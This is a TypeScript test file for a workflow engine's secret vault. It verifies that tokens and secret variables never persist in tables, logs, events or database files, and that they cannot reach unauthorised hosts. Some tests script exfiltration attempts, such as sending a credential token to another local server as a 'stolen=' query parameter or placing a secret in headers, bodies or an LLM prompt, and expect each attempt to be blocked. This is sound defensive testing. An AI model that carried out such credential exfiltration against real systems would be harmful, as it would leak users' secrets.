/** Secrets in a run of the engine, on the real vault: a service that echoes them in every way, and then nothing anywhere that holds one. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { useTestDatabase } from "@/db/testing";
import { pool, type Sql } from "@/db/url";
import { env } from "@/lib/env";
import { safeHttp } from "@/lib/http/client";
import { startServer, type TestServer } from "@/lib/http/testing";
import type { NodeContext } from "@/lib/nodes/types";
import { createLog } from "@/lib/observability/log";
import { SecretValues } from "@/lib/observability/secrets";
import { newId } from "@/lib/tenancy/ids";
import { createCredential, openCredential } from "@/lib/vault";
import { createVariable } from "@/lib/vault/variables";
import { closeWorlds, makeWorld, type World } from "./testing";

// Not found by chance, and not what another test file stores in the same server.
const KEY = `canary key/"${newId()}"`;
const VARIABLE = `canary variable=${newId()}&`;
const db = useTestDatabase();
let orgId = "";
let userId = "";
let server: TestServer;
let owner: Sql;
const told: string[] = [];
const lines: string[] = [];
const seen: string[] = [];

/** The ways in which services write what they were sent. */
const echoes = (text: string) => [
  text,
  JSON.stringify({ nested: JSON.stringify({ text }) }),
  encodeURIComponent(text),
  new URLSearchParams({ text }).toString(),
  Buffer.from(text).toString("base64"),
  Buffer.from(`you:${text}`).toString("base64url"),
  Buffer.from(text).toString("hex"),
];

beforeAll(async () => {
  ({ orgId, userId } = await db.makeOrg());
  const shared = globalThis as { flowpilotLog?: unknown };
  shared.flowpilotLog = createLog("trace", { write: (line: string) => void lines.push(line) });
  server = await startServer((request, response) => {
    const sent = [
      request.headers.authorization?.replace(/^Bearer /, "") ?? "",
      String(request.headers["x-variable"] ?? ""),
    ];
    seen.push(...sent);
    response.end(JSON.stringify(sent.flatMap(echoes)));
  });
  const hosts = `127.0.0.1:${server.port}`;
  await createCredential({ orgId, userId }, { name: "mine", type: "http_bearer", fields: { token: KEY, hosts } });
  await createVariable(
    { orgId, userId },
    { workflow_id: null, name: "secret", type: "text", secret: true, value: VARIABLE, hosts: [hosts] },
  );
  await createVariable(
    { orgId, userId },
    { workflow_id: null, name: "region", type: "text", secret: false, value: "eu", hosts: [] },
  );
  owner = pool(db.url, { max: 2 });
  for (const channel of ["execution_tokens", "execution_events"])
    await owner.listen(channel, (text) => void told.push(text));
});
afterAll(async () => {
  delete (globalThis as { flowpilotLog?: unknown }).flowpilotLog;
  await owner.end();
  await server.close();
  await closeWorlds();
});

function make(): World {
  const world = makeWorld(db, orgId);
  world.deps.openCredential = (org, name, _types, by) => openCredential(org, name, ["http_bearer"], by);
  world.deps.http = (request, options) => safeHttp(request, { ...options, privateHosts: ["127.0.0.1"] });
  return world;
}

async function echo(ctx: NodeContext): Promise<string> {
  const { http } = await ctx.credential("http");
  const headers = { ...http?.headers, "x-variable": String(await ctx.render("{{ vars.secret }}")) };
  const { body } = await ctx.http({ url: server.url, headers });
  return Buffer.from(body).toString();
}

describe("a run whose service echoes its secrets in every way", () => {
  it("leaves them in no table, event, stream, log or file", async () => {
    const world = make();
    world.scripts.gives = async (ctx) => {
      const echoed = await echo(ctx);
      for (const text of JSON.parse(echoed) as string[]) ctx.emit({ type: "log", text });
      for (const piece of echoed.match(/.{1,7}/g) ?? []) ctx.emit({ type: "token", text: piece });
      return {
        echoed: JSON.parse(echoed),
        [KEY]: `as a key, and ${VARIABLE}`,
        large: Array(2000).fill(echoed.slice(0, 60)),
      };
    };
    world.scripts.fails = async (ctx) => {
      throw new Error(`It said ${await echo(ctx)}`);
    };
    const node = (node_id: string, more = {}) => ({ node_id, component_type: "effect", config: {}, ...more });
    const run = await world.start({
      nodes: [
        node("gives"),
        node("fails", {
          on_error: "continue",
          input_mapping: { secret: "{{ vars.secret }}", region: "{{ vars.region }}" },
        }),
      ],
      edges: [{ id: "e", source_node_id: "gives", target_node_id: "fails", edge_type: "direct" }],
      credentials: { http: "mine" },
    });
    expect(await run.drive()).toEqual({ kind: "completed" });
    // They did go out.
    expect(new Set(seen)).toEqual(new Set([KEY, VARIABLE]));
    const rows = await run.runs();
    expect(rows.map(({ status }) => status)).toEqual(["completed", "failed"]);
    expect(rows[1]?.input).toEqual({ secret: "[secret]", region: "eu" });
    await expect.poll(() => told.some((text) => text.includes('"text"'))).toBe(true);
    const secrets = new SecretValues();
    secrets.add(KEY, VARIABLE);
    expect(secrets.holds(told.join("\n"))).toBe(false);
    expect(lines.join()).toContain("secret_used");
    expect(secrets.holds(lines.join("\n"))).toBe(false);
    expect(await tablesThatHold(secrets)).toEqual([]);
    expect(filesThatHold(secrets, join(env().dataDir, "artifacts"))).toEqual([]);
    expect(await databaseFilesThatHold([KEY, VARIABLE])).toEqual([]);
    // What is stored is found by the same search.
    const stored = new SecretValues();
    stored.add(run.id);
    expect(await tablesThatHold(stored)).toContain("public.node_runs");
  });

  it("sends them to no other host, whatever the workflow says", async () => {
    const world = make();
    const other = await startServer((_request, response) => response.end());
    world.scripts.a = async (ctx) => {
      const { secret } = await ctx.credential("http");
      await ctx.http({ url: `${other.url}/?stolen=${encodeURIComponent(String(secret.token))}` });
    };
    const run = await world.start({
      nodes: [{ node_id: "a", component_type: "effect", config: {} }],
      edges: [],
      credentials: { http: "mine" },
    });
    expect(await run.drive()).toMatchObject({ kind: "failed", error: { code: "http_secret_elsewhere" } });
    expect(other.connections()).toBe(0);
    await other.close();
  });

  it("sends a secret variable to its own hosts only: by no address, header or body elsewhere, and into no prompt", async () => {
    const other = await startServer((_request, response) => response.end());
    const text = "{{ vars.secret }}";
    const ways: ((ctx: NodeContext) => Promise<unknown>)[] = [
      async (ctx) => ctx.http({ url: `${other.url}/?v=${encodeURIComponent(String(await ctx.render(text)))}` }),
      async (ctx) => ctx.http({ url: other.url, headers: { "x-v": String(await ctx.render(text)) } }),
      async (ctx) => ctx.http({ url: other.url, method: "POST", body: JSON.stringify({ v: await ctx.render(text) }) }),
      async (ctx) => {
        const secret = { base_url: other.url };
        const credential = { id: newId(), name: "llm", type: "openai", secret, hosts: [], hidden: [] };
        const messages = [{ role: "user" as const, content: `Say ${await ctx.render(text)}` }];
        return ctx.llm.chat({ credential, model: "m", messages }, ctx.signal);
      },
    ];
    for (const way of ways) {
      const world = make();
      world.scripts.a = way;
      const run = await world.start({ nodes: [{ node_id: "a", component_type: "effect", config: {} }], edges: [] });
      expect(await run.drive()).toMatchObject({ kind: "failed", error: { code: "http_secret_elsewhere" } });
    }
    expect(other.connections()).toBe(0);
    await other.close();
  });
});

it("variables of the workspace lie under the document's, those of the workflow over them", async () => {
  const world = make();
  world.scripts.a = (ctx) => ctx.evaluate("[vars.region, vars.mode, vars.limit]");
  const run = await world.start({
    nodes: [{ node_id: "a", component_type: "effect", config: {} }],
    edges: [],
    variables: { mode: "of the document", limit: 1 },
  });
  const { workflow_id } = await run.row();
  const base = { type: "number" as const, secret: false, hosts: [] };
  await createVariable({ orgId, userId }, { ...base, workflow_id: null, name: "limit", value: 0 });
  await createVariable({ orgId, userId }, { ...base, workflow_id, name: "limit", value: 2 });
  await createVariable(
    { orgId, userId },
    { ...base, workflow_id: null, name: "mode", type: "text", value: "of the workspace" },
  );
  await run.drive();
  expect((await run.row()).output).toEqual(["eu", "of the document", 2]);
});

async function tablesThatHold(secrets: SecretValues): Promise<string[]> {
  const tables = await owner<{ name: string }[]>`
    select schemaname || '.' || tablename as name from pg_tables where schemaname in ('public', 'langgraph', 'inngest')`;
  const found: string[] = [];
  for (const { name } of tables) {
    const rows = await owner.unsafe<{ text: string }[]>(`select t::text as text from ${name} t`);
    // Bytes are shown in hex, which counts as an encoding.
    if (rows.some(({ text }) => secrets.holds(text))) found.push(name);
  }
  return found;
}

function filesThatHold(secrets: SecretValues, folder: string): string[] {
  return filesOf(folder).filter((file) => secrets.holds(readFileSync(file, "utf8")));
}

/** The files of this database and the log of its changes, as they are on disk. */
async function databaseFilesThatHold(values: string[]): Promise<string[]> {
  await owner`checkpoint`;
  const [at] = await owner<{ folder: string; oid: number }[]>`
    select current_setting('data_directory') as folder, (select oid from pg_database where datname = current_database())::int as oid`;
  const folders =
    at && existsSync(at.folder) ? [join(at.folder, "base", String(at.oid)), join(at.folder, "pg_wal")] : [];
  const needles = values.flatMap((value) => [value, encodeURIComponent(value), Buffer.from(value).toString("base64")]);
  return folders.flatMap(filesOf).filter((file) => {
    const bytes = readFileSync(file);
    return needles.some((needle) => bytes.includes(needle));
  });
}

function filesOf(folder: string): string[] {
  if (!existsSync(folder)) return [];
  const entries = readdirSync(folder, { withFileTypes: true, recursive: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}
